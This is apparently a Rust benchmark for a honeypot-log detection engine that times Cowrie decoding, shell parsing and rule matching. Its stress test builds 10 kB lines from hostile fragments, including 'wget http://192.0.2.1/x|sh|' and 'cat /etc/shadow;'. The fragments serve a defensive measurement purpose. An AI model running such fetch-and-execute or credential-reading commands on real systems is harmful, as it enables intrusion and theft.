//! From a raw line to tags with spans, on one core: how fast, which stage takes the time, and what more rules cost.
//! Beside it the library's own evaluator on ready-made views.
//!
//! `cargo xtask bench engine` runs it. `VESPID_LINES` names a file with one more command a line.
#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "a measurement that cannot go on has failed")]
#![expect(clippy::cast_precision_loss, reason = "rates are shown with few digits")]

use std::collections::BTreeSet;
use std::fs;
use std::hint::black_box;
use std::path::Path;
use std::time::Duration;

use mimalloc::MiMalloc;
use rustix::time::{ClockId, clock_gettime};
use serde_json::{Value, json};
use vespid_attack::Catalogue;
use vespid_engine::rule::Target;
use vespid_engine::view::View;
use vespid_engine::{Engine, Pack, RuleFile, shipped_rules};
use vespid_ingest::decode::cowrie;
use vespid_model::Body;
use vespid_model::event::Event;

/// As in the program.
#[global_allocator]
static ALLOCATOR: MiMalloc = MiMalloc;

fn main() {
    let passes = if std::env::args().any(|argument| argument == "--bench") { 15 } else { 1 };
    let said = said();
    let distinct: Vec<_> = said.iter().collect::<BTreeSet<_>>().into_iter().cloned().collect();
    let (as_said, once) = (raw(&said), raw(&distinct));
    let bytes = distinct.iter().map(String::len).sum::<usize>() / distinct.len();
    println!("{} lines, {} distinct, {bytes} bytes on average", said.len(), distinct.len());

    let shipped = shipped_rules();
    let wanted = |part: &str| {
        let mut named = std::env::args().skip(1).filter(|argument| !argument.starts_with('-')).peekable();
        named.peek().is_none() || named.any(|argument| argument == part)
    };
    if wanted("stages") {
        stages(passes, &shipped, &once);
    }
    if wanted("hostile") {
        hostile(&shipped);
    }
    if std::env::args().any(|argument| argument == "profile") {
        profile(&shipped, &once);
    }
    if wanted("rates") {
        rates(passes, &shipped, &as_said, &once);
    }
}

fn rates(passes: usize, shipped: &[RuleFile], as_said: &[Vec<u8>], once: &[Vec<u8>]) {
    let count = Engine::new(Pack::load(shipped, attack()), attack()).0.rules().len();
    for rules in [count, 300, 1000, 3000] {
        let files = many(shipped, rules);
        let started = Spent::now();
        let pack = Pack::load(&files, attack());
        let read = started.elapsed();
        let engine = Engine::new(pack, attack()).0;
        let compiled = started.elapsed().saturating_sub(read);
        let distinct = best(passes, || {
            engine.forget();
            let started = Spent::now();
            all(once, |line| tagged(&engine, line));
            started.elapsed()
        });
        let repeated = best(passes, || {
            engine.forget();
            all(as_said, |line| tagged(&engine, line));
            let started = Spent::now();
            all(as_said, |line| tagged(&engine, line));
            started.elapsed()
        });
        println!(
            "{:5} rules  distinct {:9.0} lines/s  as said {:9.0} lines/s  read in {:.0} ms, compiled in {:.0} ms",
            engine.rules().len(),
            rate(once.len(), distinct),
            rate(as_said.len(), repeated),
            read.as_secs_f64() * 1e3,
            compiled.as_secs_f64() * 1e3,
        );
    }
}

fn stages(passes: usize, files: &[RuleFile], lines: &[Vec<u8>]) {
    let engine = Engine::new(Pack::load(files, attack()), attack()).0;
    let events: Vec<Event> = lines.iter().map(|line| cowrie::decode(line).unwrap().unwrap()).collect();
    let texts: Vec<&str> = events.iter().map(text).collect();
    let parsed: Vec<_> = texts.iter().map(|text| vespid_shell::parse(text)).collect();
    let commands: usize = parsed.iter().map(|line| line.commands.len()).sum();
    let tags: usize = events.iter().map(|event| engine.tag(event).tags.len()).sum();
    println!("{} lines have {commands} commands and {tags} tags", lines.len());
    let show = |name: &str, took: Duration| {
        println!("{name:34} {:8.0} ns a line", took.as_secs_f64() * 1e9 / lines.len() as f64);
    };
    show("decode, event id", time(passes, || all(lines, |line| cowrie::decode(line))));
    show("shell", time(passes, || all(&texts, |text| vespid_shell::parse(text))));
    show(
        "match",
        best(passes, || {
            engine.forget();
            let started = Spent::now();
            for (text, line) in texts.iter().zip(&parsed) {
                black_box(engine.count_matches(text, line));
            }
            started.elapsed()
        }),
    );
    show(
        "shell, match, span, ids, all new",
        best(passes, || {
            engine.forget();
            let started = Spent::now();
            all(&events, |event| engine.tag(event));
            started.elapsed()
        }),
    );
    show("ids and tags, all known", time(passes, || all(&events, |event| engine.tag(event))));
    let views: Vec<Vec<View<'_>>> = texts
        .iter()
        .zip(&parsed)
        .map(|(text, line)| {
            line.commands.iter().map(|command| View::Process { command, line: text }).collect()
        })
        .collect();
    let mut library = rsigma_eval::Engine::new();
    let process = |place: &usize| engine.rules()[*place].target == Target::Process;
    for (_, rule) in engine.compiled().into_iter().enumerate().filter(|(place, _)| process(place)) {
        library.add_compiled_rule(rule);
    }
    show(
        "the library alone, views ready",
        time(passes, || {
            all(views.iter().flatten(), |view| library.evaluate(view));
        }),
    );
}

/// Nothing but new lines, for a profiler.
fn profile(files: &[RuleFile], lines: &[Vec<u8>]) {
    let engine = Engine::new(Pack::load(files, attack()), attack()).0;
    let events: Vec<Event> = lines.iter().map(|line| cowrie::decode(line).unwrap().unwrap()).collect();
    for _ in 0..30 {
        engine.forget();
        all(&events, |event| engine.tag(event));
    }
}

/// Long lines that are meant to hurt.
fn hostile(files: &[RuleFile]) {
    let engine = Engine::new(Pack::load(files, attack()), attack()).0;
    let parts = [
        ("semicolons", ";"),
        ("substitutions", "$("),
        ("quotes", "'\"\\"),
        ("here-documents", "<<A "),
        ("commands", "cat /etc/shadow;"),
        ("wrappers", "sudo "),
        ("pipes", "wget http://192.0.2.1/x|sh|"),
        ("one word", "a"),
        ("evals", "eval \"$("),
        ("words", "rm x "),
        ("echoes", "echo -e '\\x41' > /tmp/x;"),
    ];
    let mut all = Vec::new();
    for (name, part) in parts {
        let event = cowrie::decode(&raw(&[part.repeat(10_000 / part.len())])[0]).unwrap().unwrap();
        let mut took: Vec<_> = (0..100)
            .map(|_| {
                engine.forget();
                let started = Spent::now();
                black_box(engine.tag(&event));
                started.elapsed()
            })
            .collect();
        took.sort();
        println!("10 kB of {name:16} {:7.0} us", took[50].as_secs_f64() * 1e6);
        all.extend(took);
    }
    all.sort();
    println!("10 kB hostile lines: p99 {:.0} us", all[all.len() * 99 / 100].as_secs_f64() * 1e6);
}

/// Does something with each, so that nothing of it is left out as of no use.
fn all<'i, T: 'i, R>(items: impl IntoIterator<Item = &'i T>, mut run: impl FnMut(&T) -> R) {
    for item in items {
        drop(black_box(run(item)));
    }
}

/// Time that this process was given: what else runs on the machine counts less.
struct Spent(Duration);

impl Spent {
    fn now() -> Self {
        let time = clock_gettime(ClockId::ProcessCPUTime);
        Self(Duration::new(time.tv_sec.unsigned_abs(), u32::try_from(time.tv_nsec).unwrap()))
    }

    fn elapsed(&self) -> Duration {
        Self::now().0.saturating_sub(self.0)
    }
}

fn tagged(engine: &Engine, line: &[u8]) -> usize {
    let event = cowrie::decode(line).unwrap().unwrap();
    engine.tag(&event).tags.len()
}

fn text(event: &Event) -> &str {
    let Body::Command(command) = &event.body else { unreachable!("only commands are measured") };
    &command.command_text
}

fn attack() -> &'static Catalogue {
    Catalogue::default_release()
}

fn rate(lines: usize, took: Duration) -> f64 {
    lines as f64 / took.as_secs_f64()
}

fn time(passes: usize, mut run: impl FnMut()) -> Duration {
    best(passes, || {
        let started = Spent::now();
        run();
        started.elapsed()
    })
}

fn best(passes: usize, run: impl FnMut() -> Duration) -> Duration {
    std::iter::repeat_with(run).take(passes).min().unwrap()
}

/// As many rules as asked: the shipped ones, then copies that ask for other words.
fn many(shipped: &[RuleFile], count: usize) -> Vec<RuleFile> {
    let copy = |copy: usize, file: &RuleFile| RuleFile {
        path: format!("{copy}/{}", file.path),
        text: file
            .text
            .replace("\nname: ", &format!("\nname: c{copy}_"))
            .replace("'/", &format!("'/c{copy}")),
    };
    let copies = (1..).flat_map(|number| shipped.iter().map(move |file| copy(number, file)));
    shipped.iter().cloned().chain(copies).take(count.max(shipped.len())).collect()
}

/// Commands typed into real honeypots, in their order.
fn said() -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data/samples");
    let mut said = Vec::new();
    for log in ["cowrie-a.json", "cowrie-b.json"] {
        for line in fs::read_to_string(folder.join(log)).unwrap().lines() {
            let line: Value = serde_json::from_str(line).unwrap();
            if line["eventid"] == "cowrie.command.input" {
                said.push(line["input"].as_str().unwrap().to_owned());
            }
        }
    }
    if let Some(more) = std::env::var_os("VESPID_LINES") {
        said.extend(fs::read_to_string(more).unwrap().lines().map(str::to_owned));
    }
    said
}

/// As Cowrie logs them.
fn raw(commands: &[String]) -> Vec<Vec<u8>> {
    let line = |input: &String| {
        json!({
            "eventid": "cowrie.command.input", "input": input, "message": format!("CMD: {input}"),
            "sensor": "decky", "timestamp": "2026-01-01T00:00:00.000000Z", "src_ip": "192.0.2.7",
            "session": "0123456789ab", "protocol": "ssh",
        })
        .to_string()
        .into_bytes()
    };
    commands.iter().map(line).collect()
}
